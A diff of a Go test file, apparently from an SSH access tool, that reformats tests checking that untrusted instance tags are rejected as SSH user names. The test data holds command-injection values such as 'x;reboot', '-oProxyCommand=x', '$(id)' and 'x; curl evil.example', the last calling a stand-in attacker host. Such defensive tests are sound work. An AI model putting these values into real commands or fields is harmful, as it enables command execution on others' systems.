@@ -96,7 +96,8 @@ func TestOpenPrompt(t *testing.T) {
 // A tag is written by other people, and stands in a command that is pasted.
 func TestSSHUser(t *testing.T) {
 	for tag, want := range map[string]string{
-		"": "admin", "rocky": "rocky", "_svc-1": "_svc-1", "jane.doe": "jane.doe", "Administrator": "Administrator", ".a": "admin", "a b": "admin", "x;reboot": "admin",
+		"": "admin", "rocky": "rocky", "_svc-1": "_svc-1", "jane.doe": "jane.doe", "Administrator": "Administrator",
+		".a": "admin", "a b": "admin", "x;reboot": "admin",
 		"-oProxyCommand=x": "admin", "$(id)": "admin", strings.Repeat("a", 33): "admin", "a\nb": "admin",
 	} {
 		if got := sshUser(Instance{Tags: map[string]string{TagUser: tag}}, Account{SSHUser: "admin"}); got != want {
@@ -139,7 +140,8 @@ func TestRefusedTagIsSaid(t *testing.T) {
 			in.Tags[TagUser], in.Tags[TagHostKeyAlias] = "x; curl evil.example", "db.prod.example"
 		})
 		l := w.lease(w.ask(alice, "web", time.Hour))
-		if got := fmt.Sprint(l.Placement.Warnings); !strings.Contains(got, TagUser) || strings.Contains(got, "evil") || strings.Contains(got, TagHostKeyAlias) {
+		got := fmt.Sprint(l.Placement.Warnings)
+		if !strings.Contains(got, TagUser) || strings.Contains(got, "evil") || strings.Contains(got, TagHostKeyAlias) {
 			t.Errorf("it says %s", got)
 		}
 		if l.SSHUser != "ubuntu" || l.KeyAlias() != "db.prod.example" {
